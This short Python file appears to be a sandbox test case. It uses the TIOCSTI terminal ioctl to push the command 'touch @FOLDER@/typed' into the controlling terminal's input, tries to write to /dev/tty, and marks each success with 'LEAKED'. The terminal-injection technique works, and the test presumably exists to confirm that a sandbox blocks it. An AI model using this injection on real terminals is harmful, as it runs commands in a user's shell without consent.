"""Pushes characters into the terminal's input, where a shell would read them as a command.

verdicts: RE
harm: leak LEAKED
harm: file @FOLDER@/typed
"""

import fcntl

for descriptor in (0, 1, 2):
    for character in b"touch @FOLDER@/typed\n":
        try:
            fcntl.ioctl(descriptor, 0x5412, bytes([character]))
            print("LEAKED")
        except OSError:
            break
try:
    open("/dev/tty", "w").write("LEAKED")
except OSError:
    pass

raise RuntimeError("the attack is over")
